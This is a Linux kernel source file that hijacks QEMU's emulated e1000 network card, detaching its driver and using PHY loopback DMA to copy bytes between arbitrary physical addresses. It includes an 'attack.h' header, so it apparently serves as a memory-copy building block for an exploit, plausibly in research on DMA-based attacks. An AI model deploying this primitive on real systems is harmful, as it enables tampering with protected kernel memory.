// SPDX-License-Identifier: GPL-2.0
/*
 * QEMU's e1000 network card as a copier (`-device e1000,romfile=`, no network needed): in PHY loopback what it sends from one
 * address it receives to another. Registers and descriptors: Intel, PCI/PCI-X Family of Gigabit Ethernet Controllers Software
 * Developer's Manual (317453), chapters 3 and 13.
 */
#include <linux/delay.h>
#include <linux/pci.h>

#include "attack.h"
#include "copier.h"

#define E1000_VENDOR 0x8086
#define E1000_DEVICE 0x100e

#define CTRL 0x0000
#define CTRL_SLU BIT(6)
#define CTRL_RST BIT(26)
#define MDIC 0x0020
#define MDIC_WRITE (1 << 26 | 1 << 21) /* to the PHY, address 1 */
#define MDIC_READY BIT(28)
#define PHY_LOOPBACK_1000_FULL 0x4140 /* register 0, control: IEEE 802.3, 22.2.4.1 */
#define IMC 0x00d8
#define RCTL 0x0100
#define RCTL_ON (BIT(1) | BIT(3) | BIT(4) | BIT(15)) /* enabled, all addresses */
#define TCTL 0x0400
#define TCTL_ON (BIT(1) | BIT(3)) /* enabled, pad short packets */
#define RX_RING 0x2800
#define TX_RING 0x3800
#define RING_LOW 0x00
#define RING_HIGH 0x04
#define RING_BYTES 0x08
#define RING_HEAD 0x10
#define RING_TAIL 0x18

#define RX_OFFSET 2048
#define RING_SIZE 8 /* the smallest: 128 bytes */
#define TX_COMMAND (BIT(0) | BIT(1) | BIT(3)) /* end of packet, checksum, report status */
#define STATUS_DONE BIT(0)

struct descriptor {
	__le64 address;
	__le16 length;
	u8 tx_offset;
	u8 tx_command;
	u8 status;
	u8 rest[3];
};
static_assert(sizeof(struct descriptor) == 16);

static void __iomem *registers;
static struct page *rings;

static void set_ring(unsigned int ring, u64 address)
{
	writel(lower_32_bits(address), registers + ring + RING_LOW);
	writel(upper_32_bits(address), registers + ring + RING_HIGH);
	writel(RING_SIZE * sizeof(struct descriptor), registers + ring + RING_BYTES);
	writel(0, registers + ring + RING_HEAD);
	writel(0, registers + ring + RING_TAIL);
}

/* Once: QEMU receives nothing for a second after each write to RCTL. */
static void set_up(void)
{
	unsigned int tries;

	writel(CTRL_RST, registers + CTRL);
	usleep_range(1000, 2000);
	writel(~0u, registers + IMC);
	writel(CTRL_SLU, registers + CTRL);
	writel(MDIC_WRITE | PHY_LOOPBACK_1000_FULL, registers + MDIC);
	for (tries = 0; tries < 100 && !(readl(registers + MDIC) & MDIC_READY); tries++)
		udelay(10);
	set_ring(RX_RING, page_to_phys(rings) + RX_OFFSET);
	set_ring(TX_RING, page_to_phys(rings));
	writel(RCTL_ON, registers + RCTL);
	writel(TCTL_ON, registers + TCTL);
	msleep(1200);
}

int copier_open(void)
{
	struct pci_dev *device;

	if (registers)
		return 0;
	device = pci_get_device(E1000_VENDOR, E1000_DEVICE, NULL);
	if (!device)
		return -ENODEV;
	rings = alloc_page(GFP_KERNEL | __GFP_ZERO);
	device_release_driver(&device->dev);
	if (!rings || pci_enable_device(device))
		return -ENODEV;
	pci_set_master(device);
	pci_intx(device, 0);
	registers = pci_iomap(device, 0, 0);
	if (!registers)
		return -ENODEV;
	set_up();
	return 0;
}

/* One packet, with exactly one buffer to receive it in. */
int copier_copy(u64 from, u64 to, unsigned int bytes)
{
	unsigned int tx = readl(registers + TX_RING + RING_HEAD) % RING_SIZE;
	unsigned int rx = readl(registers + RX_RING + RING_HEAD) % RING_SIZE;
	struct descriptor *send = page_address(rings) + tx * sizeof(*send);
	struct descriptor *receive = page_address(rings) + RX_OFFSET + rx * sizeof(*receive);
	unsigned int tries;

	memset(send, 0, sizeof(*send));
	memset(receive, 0, sizeof(*receive));
	send->address = cpu_to_le64(from);
	send->length = cpu_to_le16(bytes);
	send->tx_command = TX_COMMAND;
	receive->address = cpu_to_le64(to);
	dma_wmb();
	writel((rx + 1) % RING_SIZE, registers + RX_RING + RING_TAIL);
	writel((tx + 1) % RING_SIZE, registers + TX_RING + RING_TAIL);
	for (tries = 0; tries < 200; tries++) {
		if (READ_ONCE(send->status) & READ_ONCE(receive->status) & STATUS_DONE) {
			dma_rmb();
			return 0;
		}
		usleep_range(100, 200);
	}
	return -ETIMEDOUT;
}
